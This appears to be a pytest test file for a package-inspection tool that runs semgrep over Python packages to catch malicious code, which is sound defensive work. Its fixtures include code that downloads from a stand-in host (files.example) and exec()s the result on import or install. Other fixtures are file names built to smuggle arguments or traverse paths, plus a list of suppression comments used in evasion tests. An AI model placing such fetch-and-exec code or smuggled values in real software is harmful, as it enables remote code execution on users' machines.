"""The deep pass: on whom it looks, that nothing in a package can switch it off, and that its failures are said."""

from __future__ import annotations

import hashlib
import os
import sys
from typing import TYPE_CHECKING

import pytest

from gatekeeper.evidence import _semgrep
from gatekeeper.evidence.deep import MOST_BYTES, Source, moment_of, read_deep, text_of
from gatekeeper.evidence.suspects import suspects
from gatekeeper.inspection import Inspector
from gatekeeper.model import Behaviour, Confidence, Evidence, Finding, Release, Ruling, Severity, Surface, Unread, When
from gatekeeper.policy import Policy
from tests.support.packages import Built, Files, sdist, wheel
from tests.support.stores import Memory

if TYPE_CHECKING:
    from pathlib import Path

    from gatekeeper.model import Verdict

CARRIED = """import queue
import urllib.request

waiting = queue.Queue()
waiting.put(urllib.request.urlopen("http://files.example/a").read())
exec(waiting.get())
"""
IN_A_FUNCTION = "def later():\n" + "".join(f"    {line}\n" for line in CARRIED.splitlines())
OWN_RULE = """rules:
- id: no-shelve
  languages: [python]
  severity: WARNING
  message: shelve is not used here
  metadata: {confidence: high}
  pattern: shelve.open(...)
"""
SHELVES = "import shelve\nimport urllib.request\n\nurllib.request.urlopen('http://files.example/')\nshelve.open('a')\n"


def package(code: str, files: Files | None = None) -> Built:
    return wheel("acme-thing", files={"acme_thing/__init__.py": code, **(files or {})})


def judge(built: Built, folder: Path, inspector: Inspector | None = None) -> Verdict:
    path = built.write(folder)
    release = Release("pypi", built.name, built.version)
    return (inspector or Inspector(Policy())).judge_artifact(
        path, release, filename=built.filename, sha256=hashlib.sha256(built.content).hexdigest()
    )


def read(code: str | bytes, path: str = "a.py", when: When = When.IMPORT) -> tuple[set[str], str | None]:
    content = code.encode() if isinstance(code, str) else code
    (reading,) = read_deep([Source(Surface(path, when, "a test"), content)])
    return {mark.id for one in reading.matches for mark in one.marks}, reading.unread and reading.unread.reason


def engine(monkeypatch: pytest.MonkeyPatch, folder: Path, script: str) -> None:
    """Put a program of ours in the engine's place."""
    place = folder / "engine"
    place.write_text(f"#!{sys.executable}\n{script}", "utf-8")
    place.chmod(0o755)
    monkeypatch.setattr(_semgrep, "program", lambda: place)


def counted(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """Count calls of the engine, and the files of each."""
    calls: list[int] = []
    run = _semgrep.run

    def counting(folder: Path, files: int, rules: list[Path]) -> _semgrep.Answer:
        calls.append(files)
        return run(folder, files, rules)

    monkeypatch.setattr(_semgrep, "run", counting)
    return calls


def nothing(_path: str) -> bytes:
    return b""


# Whom it looks at.


def test_running_computed_code_is_suspect_only_beside_a_word_of_where_it_may_come_from() -> None:
    surfaces = (Surface("setup.py", When.INSTALL, "a test"),)
    runs = Behaviour("exec", "exec of something computed", "setup.py", 3, When.INSTALL, taints=("packaged",))
    evidence = Evidence(Release("pypi", "a"), surfaces=surfaces, behaviours=(runs,))
    assert not suspects(evidence, (), lambda _: b"exec(open('version.py').read())")
    assert suspects(evidence, (), lambda _: b"exec(open('logo.png', 'rb').read()[100:])")


def test_half_of_a_chain_that_runs_unasked_is_suspect_and_a_settled_file_is_not() -> None:
    surfaces = (Surface("a.py", When.IMPORT, "a test"), Surface("b.txt", When.IMPORT, "a test"))
    half = Behaviour("network", "http://files.example/", "a.py", 3, When.IMPORT)
    evidence = Evidence(Release("pypi", "a"), surfaces=surfaces, behaviours=(half,))
    (found,) = suspects(evidence, (), nothing)
    assert (found.path, found.when, found.lines) == ("a.py", When.IMPORT, ((3, When.IMPORT),))
    mild = Finding("x", Severity.MEDIUM, Confidence.HIGH, "m", When.IMPORT, "a.py")
    assert suspects(evidence, (mild,), nothing)
    assert not suspects(evidence, (Finding("x", Severity.HIGH, Confidence.HIGH, "m", When.IMPORT, "a.py"),), nothing)
    later = Behaviour("network", "http://files.example/", "a.py", 3, When.CALL)
    assert not suspects(Evidence(Release("pypi", "a"), surfaces=surfaces, behaviours=(later,)), (), nothing)


def test_what_was_not_read_to_the_end_is_suspect_where_it_runs() -> None:
    unread = (Unread("a.py", "takes too long to follow"), Unread("b.py", "takes too long to follow"))
    surfaces = (Surface("a.py", When.INSTALL, "a test"), Surface("b.py", When.NEVER, "a test"))
    evidence = Evidence(Release("pypi", "a"), surfaces=surfaces, unread=unread)
    assert [one.path for one in suspects(evidence, (), nothing)] == ["a.py"]


def test_an_honest_package_costs_no_call(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    calls = counted(monkeypatch)
    assert judge(wheel("acme-thing"), tmp_path).ruling is Ruling.ALLOW
    assert calls == []


def test_what_the_fast_pass_leaves_open_is_settled_and_only_made_stricter(tmp_path: Path) -> None:
    verdict = judge(package(CARRIED), tmp_path)
    assert verdict.ruling is Ruling.BLOCK
    (found,) = (one for one in verdict.findings if one.check == "deep-pattern")
    assert (found.file, found.line, found.when) == ("acme_thing/__init__.py", 6, When.IMPORT)
    assert "T1105" in found.attack
    assert verdict.pending is None


def test_in_a_function_that_nobody_calls_a_rule_of_ours_is_only_mentioned(tmp_path: Path) -> None:
    verdict = judge(package(IN_A_FUNCTION), tmp_path, Inspector(Policy(), deep=True))
    assert verdict.ruling is Ruling.ALLOW
    (found,) = (one for one in verdict.findings if one.check == "deep-pattern")
    assert (found.severity, found.when) == (Severity.LOW, When.CALL)


def test_a_match_runs_when_the_fast_pass_saw_its_lines_run() -> None:
    suspect = Surface("a.py", When.IMPORT, "a test", ((2, When.CALL), (9, When.IMPORT)))
    assert moment_of(suspect, 2, 2, "") is When.CALL
    assert moment_of(suspect, 4, 4, "") is When.CALL  # the call began above its argument
    assert moment_of(suspect, 1, 9, "") is When.IMPORT
    assert moment_of(suspect, 20, 20, "x = 1\n" * 30) is When.IMPORT
    assert moment_of(suspect, 21, 21, "def f():\n" + "    x = 1\n" * 30) is When.CALL


def test_many_verdicts_cost_one_call(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    calls, inspector, found = counted(monkeypatch), Inspector(Policy()), []
    for number in range(5):
        built = wheel(f"acme-{number}", files={f"acme_{number}/__init__.py": CARRIED})
        digest = hashlib.sha256(built.content).hexdigest()
        release = Release("pypi", built.name, "1.0")
        found.append(
            inspector.judge_artifact(built.write(tmp_path), release, filename=built.filename, sha256=digest, later=True)
        )
    assert all(one.pending for one in found)
    assert {one.ruling for one in inspector.deepen(found)} == {Ruling.BLOCK}
    assert calls == [5]


def test_what_was_found_deep_is_remembered_and_not_looked_for_again(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    calls, inspector = counted(monkeypatch), Inspector(Policy(), Memory())
    first = judge(package(CARRIED), tmp_path, inspector)
    second = judge(package(CARRIED), tmp_path, inspector)
    assert (second.ruling, second.findings, second.recalled) == (first.ruling, first.findings, True)
    assert calls == [1]


def test_the_ruleset_tells_engines_rules_and_depth_apart(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    rules = tmp_path / "own.yaml"
    rules.write_text(OWN_RULE, "utf-8")
    own = Policy(signatures=(str(rules),))
    digests = [Inspector(Policy()).ruleset, Inspector(Policy(), deep=True).ruleset, Inspector(own).ruleset]
    rules.write_text(OWN_RULE.replace("WARNING", "ERROR"), "utf-8")
    digests.append(Inspector(own).ruleset)
    monkeypatch.setattr(_semgrep, "version", lambda: "another")
    digests.append(Inspector(Policy()).ruleset)
    assert len(set(digests)) == len(digests)


def test_deep_reads_every_source_file(tmp_path: Path) -> None:
    built = sdist("acme-thing", files={"tests/test_a.py": CARRIED, "notes.txt": "a"})
    assert not [one for one in judge(built, tmp_path).findings if one.check == "deep-pattern"]
    verdict = judge(built, tmp_path, Inspector(Policy(), deep=True))
    (found,) = (one for one in verdict.findings if one.check == "deep-pattern")
    assert (found.file, found.when, found.severity) == ("tests/test_a.py", When.NEVER, Severity.LOW)
    assert verdict.ruling is Ruling.ALLOW


# Nothing in a package can switch it off.


MARKS = ("nosem", "nosemgrep", "nosemgrep: python.fetched-code-carried", "noqa", "nosec")
NAMES = (
    "tests/a.py", "node_modules/a/a.py", ".git/a.py", "a b\n--config=x.py", "-rf.py", "../../../etc/a.py",
    "\u202eyp.py", "C:\\a\\b.py", "a" * 4000 + ".py", "x.min.py",
)  # fmt: skip
ENCODINGS = ("utf-8-sig", "utf-16", "latin-1", "cp1251")


def test_no_comment_name_or_encoding_hides_a_file() -> None:
    sources = [("a.py", f"{CARRIED.rstrip()}  # {mark}\n".encode()) for mark in MARKS]
    sources += [(name, CARRIED.encode()) for name in NAMES]
    for encoding in ENCODINGS:
        cookie = "" if encoding.startswith("utf") else f"# -*- coding: {encoding} -*-\n"
        sources.append((encoding + ".py", (cookie + CARRIED).encode(encoding)))
    sources.append(("broken.py", f"{CARRIED}\n\ndef (:\n    x = = 3\n".encode()))
    sources.append(("old.py", b"import requests\nprint 'a'\nexec requests.get('http://files.example/').text\n"))
    readings = read_deep([Source(Surface(path, When.IMPORT, "a test"), content) for path, content in sources])
    for (path, content), reading in zip(sources, readings, strict=True):
        ids = {mark.id for one in reading.matches for mark in one.marks}
        assert "python.fetched-code-carried" in ids, (path[:50], content[-60:])
        assert {one.file for one in reading.matches} == {path}


def test_ignore_files_and_settings_of_a_package_are_not_looked_at(tmp_path: Path) -> None:
    ignoring = {f"acme_thing/{name}": "*\n" for name in (".semgrepignore", ".gitignore", ".semgrep.yml")}
    built = package(CARRIED, {**ignoring, ".semgrepignore": "*\n", ".semgrep/settings.yml": "a: b\n"})
    assert judge(built, tmp_path).ruling is Ruling.BLOCK


@pytest.mark.parametrize("content", [b"# -*- coding: nonsense -*-\na", b"\xff\xfea", b"\0\0", b"# coding: hex\n00"])
def test_any_bytes_become_a_text(content: bytes) -> None:
    assert isinstance(text_of(Source(Surface("a.py", When.IMPORT, "a test"), content)), str)


# Its failures are said.


def test_a_file_that_rules_take_too_long_over_is_not_fully_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(_semgrep, "SECONDS_PER_RULE", 1)
    monkeypatch.setattr(_semgrep, "SLOW_RULES", 1)
    steps = "".join(f"x{n} = x{n - 1} + [x{n // 2}, urlopen('a'), q.put(x{n - 1})]\n" for n in range(1, 9000))
    code = f"from urllib.request import urlopen\nq = x0 = []\n{steps}exec(x8999)\n"
    assert "Timeout" in str(read(code)[1])


def test_a_file_too_large_is_not_fully_read(tmp_path: Path) -> None:
    code = "import urllib.request\nurllib.request.urlopen('http://files.example/')\n" + "# a\n" * MOST_BYTES["python"]
    verdict = judge(package(code), tmp_path)
    (found,) = (one for one in verdict.findings if "not read deeper" in one.message)
    assert (found.check, found.severity) == ("not-fully-read", Severity.LOW)


@pytest.mark.parametrize(
    ("script", "said"),
    [
        ("print('no answer')", "no answer"),
        ("import sys; sys.exit(3)", "ended with 3"),
        ("print('[]')", "makes no sense"),
        ('print(\'{"results": [], "errors": []}\')', "ended with 0"),
        ("import time; time.sleep(60)", "was not done within"),
    ],
)
def test_a_broken_engine_is_not_fully_read_and_not_remembered(
    script: str, said: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    engine(monkeypatch, tmp_path, script)
    monkeypatch.setattr(_semgrep, "SECONDS_FOR_ALL", 2.0)
    memory = Memory()
    verdict = judge(package(CARRIED), tmp_path, Inspector(Policy(), memory))
    (found,) = (one for one in verdict.findings if one.check == "not-fully-read")
    assert said in found.message
    assert memory.kept == {}


def test_without_the_engine_an_install_is_a_question_and_an_import_a_visible_finding(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(_semgrep, "program", lambda: None)
    imported = judge(package(CARRIED), tmp_path)
    assert imported.ruling is Ruling.ALLOW
    assert [one.severity for one in imported.findings if "semgrep is not installed" in one.message] == [Severity.LOW]
    setup = "from setuptools import setup\nnumber = int('49')\nexec(number.to_bytes(1, 'big'))\nsetup()\n"
    installed = judge(sdist("acme-thing", files={"setup.py": setup}), tmp_path)
    assert installed.ruling >= Ruling.ASK


def test_nothing_is_left_behind(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    monkeypatch.setattr("tempfile.tempdir", None)
    read(CARRIED)
    assert os.listdir(tmp_path) == []  # noqa: PTH208 - an empty list says it best


# The person's own rules.


def test_own_rules_are_matched_like_ours(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "own.yaml").write_text(OWN_RULE, "utf-8")
    inspector = Inspector(Policy(signatures=(str(rules),)))
    verdict = judge(package(SHELVES), tmp_path, inspector)
    (found,) = (one for one in verdict.findings if one.check == "deep-pattern")
    assert (found.severity, found.line) == (Severity.MEDIUM, 5)
    assert "shelve is not used here (rule no-shelve)" in found.message
    assert verdict.ruling is Ruling.ASK


@pytest.mark.parametrize(
    "text",
    [
        OWN_RULE.replace("shelve.open(...)", "'def ('"),
        OWN_RULE.replace("  pattern:", "  no-such-key:"),
        "rules:\n- id: [\n",
    ],
)
def test_a_broken_own_rule_is_an_error_that_names_its_file(text: str, tmp_path: Path) -> None:
    rules = tmp_path / "own.yaml"
    rules.write_text(text, "utf-8")
    verdict = judge(package(SHELVES), tmp_path, Inspector(Policy(signatures=(str(rules),))))
    assert verdict.ruling is Ruling.ERROR
    assert "own.yaml" in str(verdict.error)
